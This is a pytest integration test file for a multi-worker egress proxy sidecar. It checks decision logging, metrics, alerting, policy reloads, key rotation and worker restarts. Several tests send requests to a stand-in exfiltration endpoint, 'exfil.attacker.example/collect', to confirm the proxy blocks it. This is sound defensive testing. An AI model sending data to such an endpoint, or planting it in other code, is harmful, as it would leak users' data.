"""`run --workers 2`: two proxy processes that look like one sidecar from outside.

Each test makes sure both workers take part (a connection held on each, found from
/proc), then checks what the pod shows: one decision line per request, metrics summed
once, one alert group, one policy for all, a rotated key used by all, a killed worker
replaced without its listener going away.
"""

from __future__ import annotations

import contextlib
import http.client
import json
import os
import re
import signal
import ssl
import threading
import time

import httpx
import pytest

from tests.alerts.alerts_helpers import FakeReceiver, write_config
from tests.conftest import provider_policy
from tests.support.keys import KEYS, SecretMount, key_policy
from tests.support.sidecar import SidecarProcess
from tests.support.workers import (
    one_connection_per_worker,
    serving_worker,
    wait_for,
    worker_pids,
)

pytestmark = pytest.mark.integration

WORKERS = ("--workers", "2")
EXFIL = "http://exfil.attacker.example/collect"


def _proxy(sidecar: SidecarProcess) -> tuple[str, int]:
    host, port = sidecar.proxy_url.removeprefix("http://").rsplit(":", 1)
    return host, int(port)


def plain(sidecar: SidecarProcess) -> http.client.HTTPConnection:
    """A keep-alive connection to the explicit proxy that has sent one refused request."""
    conn = http.client.HTTPConnection(*_proxy(sidecar), timeout=15)
    assert refused_status(conn) == 403
    return conn


def refused_status(conn: http.client.HTTPConnection, path: str = "") -> int:
    conn.request("GET", EXFIL + path)
    response = conn.getresponse()
    response.read()
    return response.status


def tunnel(sidecar: SidecarProcess, port: int) -> http.client.HTTPSConnection:
    """A CONNECT tunnel to the fake OpenAI through the proxy, one request sent."""
    context = ssl.create_default_context(cafile=sidecar.ca_cert)
    conn = http.client.HTTPSConnection(*_proxy(sidecar), timeout=15, context=context)
    conn.set_tunnel("api.openai.com", port)
    models(conn)
    return conn


def models(conn: http.client.HTTPConnection) -> int:
    conn.request("GET", "/v1/models")
    response = conn.getresponse()
    response.read()
    return response.status


def metric(sidecar: SidecarProcess, pattern: str) -> float:
    found = re.search(rf"^{pattern} (\S+)$", sidecar.metrics(), re.MULTILINE)
    return float(found.group(1)) if found else 0.0


def readyz(sidecar: SidecarProcess) -> dict:
    result: dict = httpx.get(sidecar.admin_url + "/readyz", timeout=5).json()
    return result


def test_refusals_on_both_workers_are_one_line_one_count_one_alert_group_each(
    start_sidecar, bg, tmp_path
):
    receiver = bg.run(FakeReceiver(default=200).start())
    try:
        config = write_config(
            tmp_path, f"sinks:\n  - name: am\n    type: alertmanager\n    url: {receiver.url}\n"
        )
        sidecar = start_sidecar(extra_args=(*WORKERS, "--alerts-config", config))
        held = one_connection_per_worker(sidecar, 2, lambda: plain(sidecar))
        assert len(held) == 2
        for conn in held.values():
            for _ in range(10):
                assert refused_status(conn) == 403
        for conn in held.values():
            conn.close()
        # The connections opened to find both workers refused once each, plus the 20.
        refusals = lambda: [d for d in sidecar.decisions if d["host"] == "exfil.attacker.example"]  # noqa: E731
        wait_for(lambda: len(refusals()) >= 22, 15, "22 decision lines")
        time.sleep(1.0)  # nothing doubled arrives late
        lines = refusals()
        counted = metric(
            sidecar,
            r'egress_sidecar_decisions_total\{decision="block",provider="none",'
            r'reason="host_not_allowed"\}',
        )
        assert counted == len(lines), "one metric increment per decision line"
        assert all(line["reason"] == "host_not_allowed" for line in lines)
        wait_for(lambda: receiver.requests, 15, "the alert notification")
        time.sleep(2.0)  # a second worker's own pipeline would page here too
        pages = [json.loads(r.body) for r in receiver.requests]
        assert len(pages) == 1, pages
        (alert,) = pages[0]
        assert alert["labels"]["reason"] == "host_not_allowed"
        warning = metric(sidecar, r'egress_sidecar_alerts_refusals_total\{severity="warning"\}')
        assert warning == len(lines), "every refusal of every worker reached the one pipeline"
    finally:
        bg.run(receiver.stop())


def test_decision_lines_of_both_workers_at_once_never_interleave(start_sidecar):
    """Both workers logging as fast as they can: every line on the pod's stdout is one
    whole JSON object (the supervisor relays whole lines only, whatever their size)."""
    sidecar = start_sidecar(extra_args=WORKERS)
    held = one_connection_per_worker(sidecar, 2, lambda: plain(sidecar))
    long_path = "/" + "a" * 300  # the longest path a decision line keeps (256)

    def hammer(conn: http.client.HTTPConnection) -> None:
        for _ in range(100):
            refused_status(conn, long_path)

    threads = [threading.Thread(target=hammer, args=(c,)) for c in held.values()]
    for t in threads:
        t.start()
    for t in threads:
        t.join(120)

    def logged() -> int:
        return sum(1 for d in sidecar.decisions if (d.get("path") or "").startswith("/collect/a"))

    wait_for(lambda: logged() >= 200, 30, "200 decision lines")
    for line in sidecar.stdout_lines:
        json.loads(line)  # a torn or interleaved line fails here
    assert len(sidecar.stdout_lines) == len(sidecar.decisions)


def test_policy_reload_reaches_every_worker_and_a_bad_file_is_refused_once(
    start_sidecar, provider, tmp_path
):
    policy = tmp_path / "policy.yaml"
    policy.write_text(provider_policy(provider.port))
    sidecar = start_sidecar(policy_path=policy, extra_args=WORKERS)
    held = one_connection_per_worker(sidecar, 2, lambda: tunnel(sidecar, provider.port))
    first = readyz(sidecar)
    assert first["ready"] and first["checks"]["workers_on_policy"]

    # The openai entry loses /v1/models: every worker must refuse it from now on.
    replace_file(
        policy, provider_policy(provider.port).replace("paths: [/v1/*]", "paths: [/v1/chat/*]")
    )
    loaded = sidecar.wait_for_event("policy_loaded", timeout=30, after=len(sidecar.events))
    wait_for(lambda: readyz(sidecar)["policy"] == loaded["digest"], 15, "the new digest")
    wait_for(lambda: readyz(sidecar)["checks"]["workers_on_policy"], 15, "workers on it")
    for pid, conn in held.items():
        assert models(conn) == 403, f"worker {pid} still on the old policy"
    assert metric(sidecar, r'egress_sidecar_policy_reload_total\{result="success"\}') == 1

    mark = len(sidecar.events)
    replace_file(policy, "version: 1\nproviders: [this is not a mapping\n")
    sidecar.wait_for_event("policy_reload_rejected", timeout=30, after=mark)
    time.sleep(1.0)
    rejected = [e for e in sidecar.events[mark:] if e["event"] == "policy_reload_rejected"]
    assert len(rejected) == 1, "one reload for the pod, not one per worker"
    assert metric(sidecar, r'egress_sidecar_policy_reload_total\{result="failure"\}') == 1
    assert readyz(sidecar)["policy"] == loaded["digest"]
    for conn in held.values():
        assert models(conn) == 403  # the last good policy, on every worker


def test_key_rotation_reaches_every_worker_within_a_second(start_sidecar, provider, tmp_path):
    secrets = SecretMount(tmp_path / "mount", dict(KEYS))
    sidecar = start_sidecar(
        key_policy(provider.port), extra_args=(*WORKERS, "--secrets-dir", str(secrets.root))
    )
    held = one_connection_per_worker(sidecar, 2, lambda: tunnel(sidecar, provider.port))
    rotated = "sk-proj-rotatedbyworkers" + "W" * 40
    secrets.swap({**KEYS, "openai": rotated})
    swapped = time.monotonic()
    time.sleep(1.0)
    for conn in held.values():
        mark = len(provider.received)
        assert models(conn) == 200
        (seen,) = [r for r in provider.received[mark:] if r.path == "/v1/models"]
        assert seen.headers["authorization"] == f"Bearer {rotated}"
        assert seen.at - swapped < 5.0
    counted = metric(sidecar, r'egress_sidecar_secret_changes_total\{secret="openai"\}')
    assert counted == 1, "one rotation for the pod, counted once"


def test_killed_worker_keeps_the_listener_and_is_replaced(start_sidecar):
    sidecar = start_sidecar(extra_args=WORKERS)
    held = one_connection_per_worker(sidecar, 2, lambda: plain(sidecar))
    victim, survivor = list(held)
    os.kill(victim, signal.SIGKILL)
    # The listener is never gone: new connections are served while the worker is down.
    for _ in range(5):
        fresh = plain(sidecar)
        fresh.close()
    assert refused_status(held[survivor]) == 403
    wait_for(lambda: len(set(worker_pids(sidecar)) - {survivor, victim}) == 1, 60, "a new worker")
    wait_for(lambda: readyz(sidecar)["workers"]["ready"] == 2, 60, "two ready workers")
    exited = sidecar.wait_for_event("worker_exited", timeout=10)
    assert exited["pid"] == victim and exited["code"] == -signal.SIGKILL
    assert metric(sidecar, "egress_sidecar_worker_restarts_total") == 1
    assert metric(sidecar, "egress_sidecar_workers") == 2
    one_connection_per_worker(sidecar, 2, lambda: plain(sidecar))  # both serve again


def test_sigterm_stops_every_worker(start_sidecar):
    sidecar = start_sidecar(extra_args=WORKERS)
    pids = worker_pids(sidecar)
    assert len(pids) == 2
    assert sidecar.stop() == 0
    for pid in pids:
        wait_for(lambda pid=pid: not os.path.exists(f"/proc/{pid}"), 15, f"worker {pid} gone")


def test_worker_that_keeps_dying_stops_the_pod_with_an_error(start_sidecar):
    """A worker slot that dies six times in a row (each restart killed at once) stops
    the sidecar with exit 1: a pod quietly running on fewer workers is not healthy."""
    sidecar = start_sidecar(extra_args=WORKERS)
    survivor = worker_pids(sidecar)[0]
    killed: set[int] = set()
    deadline = time.monotonic() + 120
    assert sidecar.proc is not None
    while sidecar.proc.poll() is None and time.monotonic() < deadline:
        for pid in set(worker_pids(sidecar)) - {survivor} - killed:
            with contextlib.suppress(ProcessLookupError):
                os.kill(pid, signal.SIGKILL)
            killed.add(pid)
        time.sleep(0.02)
    assert sidecar.proc.wait(30) == 1
    assert len(killed) == 6, killed
    assert any("died 6 times in a row" in e.get("error", "") for e in sidecar.events)
    wait_for(lambda: not os.path.exists(f"/proc/{survivor}"), 15, "the other worker gone")


def test_worker_that_cannot_start_stops_the_start(tmp_path):
    """Every worker fails at start (its CA directory is a file): the pod exits with the
    worker's code (64, a config error), saying which worker and why."""
    not_a_directory = tmp_path / "ca"
    not_a_directory.write_text("")
    args = ["--workers", "2", "--listen", "127.0.0.1:0", "--admin", "127.0.0.1:0"]
    sidecar = SidecarProcess([*args, "--ca-dir", str(not_a_directory)])
    with pytest.raises(RuntimeError, match="sidecar exited 64"):
        sidecar.start()
    assert any("while starting" in e.get("error", "") for e in sidecar.events)
    assert any(
        e.get("event") == "config_error" and "not a directory" in e["error"] for e in sidecar.events
    )


def test_a_worker_holding_most_of_a_sources_connections_is_not_refused_early(start_sidecar):
    """--max-connections-per-source 4 over 2 workers: three of the gateway's connections
    on one worker and one on the other are all served (a per-worker split of 2 refused
    the third), and a fifth, wherever it lands, is refused: the limit is the pod's."""
    sidecar = start_sidecar(extra_args=(*WORKERS, "--max-connections-per-source", "4"))
    wanted = {"most": 3, "rest": 1}
    held: dict[int, list[http.client.HTTPConnection]] = {}
    try:
        for _ in range(80):
            if sum(len(c) for c in held.values()) == 4 and len(held) == 2:
                break
            conn = plain(sidecar)  # admitted: it was answered
            pid = serving_worker(sidecar, conn.sock.getsockname()[1])
            mine = held.setdefault(pid, [])
            others = [len(c) for p, c in held.items() if p != pid]
            room = wanted["most"] if not others or max(others) <= 1 else wanted["rest"]
            if len(mine) < room:
                mine.append(conn)
            else:
                conn.close()
                time.sleep(0.2)  # its count is released when the worker sees the close
        counts = sorted(len(c) for c in held.values())
        assert counts == [1, 3], f"could not place 3 + 1 connections: {counts}"
        for conns in held.values():
            for conn in conns:
                assert refused_status(conn) == 403  # still served, all four
        fifth = http.client.HTTPConnection(*_proxy(sidecar), timeout=15)
        with pytest.raises((ConnectionError, http.client.HTTPException, OSError)):
            refused_status(fifth)
        fifth.close()
        refusal = sidecar.wait_for_decision(reason="too_many_connections", timeout=15)
        assert "limit 4" in refusal["detail"]
    finally:
        for conns in held.values():
            for conn in conns:
                conn.close()


def replace_file(path, text: str) -> None:
    """Swap the file's content in one step, as a ConfigMap update does: the watcher
    polling between `write_text`'s truncate and its write saw an empty file first, and
    counted two rejected reloads (once in CI)."""
    staging = path.with_name(path.name + ".new")
    staging.write_text(text)
    os.replace(staging, path)


def test_workers_started_on_an_empty_ca_directory_all_serve_the_ca_on_disk(
    start_sidecar, provider, tmp_path
):
    """Each worker's mitmproxy creates the interception CA when the directory is empty:
    two at once each made their own, and the gateway, which trusts the file on disk,
    failed TLS on every connection the other worker took (seen in the namespace tests).
    The supervisor now creates the CA before any worker starts."""
    ca_dir = tmp_path / "fresh-ca"
    sidecar = start_sidecar(extra_args=(*WORKERS, "--ca-dir", str(ca_dir)))
    assert sidecar.ca_cert.startswith(str(ca_dir))
    # Each connection verifies the worker's certificate against the CA file on disk.
    held = one_connection_per_worker(sidecar, 2, lambda: tunnel(sidecar, provider.port))
    assert len(held) == 2
    for conn in held.values():
        assert models(conn) == 200
        conn.close()
